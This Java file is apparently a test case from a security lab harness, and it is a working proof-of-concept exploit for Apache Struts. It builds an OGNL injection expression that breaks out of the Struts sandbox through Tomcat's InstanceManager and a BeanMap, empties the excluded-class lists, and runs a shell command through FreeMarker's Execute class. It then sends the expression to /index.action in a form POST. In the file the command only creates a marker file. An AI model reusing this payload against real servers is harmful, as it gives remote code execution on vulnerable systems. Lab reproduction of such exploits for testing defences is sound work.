import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    String expression =
        "%{(#im=#application['org.apache.tomcat.InstanceManager'])"
            + ".(#m=#im.newInstance('org.apache.commons.collections.BeanMap'))"
            + ".(#m.setBean(#attr['struts.valueStack'])).(#c=#m.get('context'))"
            + ".(#m.setBean(#c)).(#a=#m.get('memberAccess')).(#m.setBean(#a))"
            + ".(#e=#im.newInstance('java.util.HashSet'))"
            + ".(#m.put('excludedClasses',#e)).(#m.put('excludedPackageNames',#e))"
            + ".(#x=#im.newInstance('freemarker.template.utility.Execute'))"
            + ".(#x.exec({'"
            + Attacker.touch()
            + "'}))}";
    Attacker.post(
        "/index.action",
        "id=" + Attacker.encode(expression),
        "Content-Type",
        "application/x-www-form-urlencoded");
    Attacker.done();
  }
}
